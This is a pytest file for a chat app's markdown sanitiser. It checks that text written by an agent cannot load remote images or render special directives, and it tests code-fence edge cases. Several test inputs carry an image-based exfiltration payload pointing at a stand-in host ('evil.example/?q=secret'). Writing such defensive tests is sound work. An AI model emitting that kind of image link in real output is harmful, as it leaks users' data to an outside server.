"""An agent's text does nothing but say what it says."""

import pytest

from constructs_lib.frontend.app.chat_app.safe_markdown import plain_label, safe_markdown


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("![x](https://evil.example/?q=secret)", "[x](https://evil.example/?q=secret)"),
        ("![x][ref]", "[x][ref]"),
        ("wow! [a](b)", "wow! [a](b)"),
        ("$5 and $6", r"\$5 and \$6"),
        (r"\$5", r"\$5"),
        ("`$HOME` costs $5", r"`$HOME` costs \$5"),
        ("```sh\necho $HOME ![x](y)\n```\n$1", "```sh\necho $HOME ![x](y)\n```\n\\$1"),
        ("```\nstill $writing", "```\nstill $writing"),
        (":red[alarm] :material/home:", r"\:red[alarm] \:material/home:"),
        ("at 10:30", "at 10:30"),
        ("``a ` $b`` $1", "``a ` $b`` \\$1"),
        ("~~~\n$a\n~~~\n$1", "~~~\n$a\n~~~\n\\$1"),
        ("1. ```sh\n   echo $a\n   ```\n$1", "1. ```sh\n   echo $a\n   ```\n\\$1"),
        ("```rust\nvec![1](2)\n```", "```rust\nvec![1](2)\n```"),
    ],
)
def test_markdown_is_safe(said: str, shown: str) -> None:
    assert safe_markdown(said) == shown


@pytest.mark.parametrize(
    "before",
    [
        "a fence within a line ``` is none: ",
        "\\`",
        "~~~\n```\n~~~\n",
        "``` a`b`\n",
        "`a\n\n",
        "a ` b\n\n",
        "> ```\n\n",
    ],
)
def test_what_only_looks_like_code_loads_no_picture(before: str) -> None:
    assert "![" not in safe_markdown(f"{before}![x](https://evil.example/?q=secret)`")


def test_a_label_says_what_was_typed() -> None:
    assert plain_label("ann@example.com") == r"ann\@example.com"
    assert plain_label("**a** [b](c)\n`d` $e$") == r"\*\*a\*\* \[b\](c) \`d\` \$e\$"
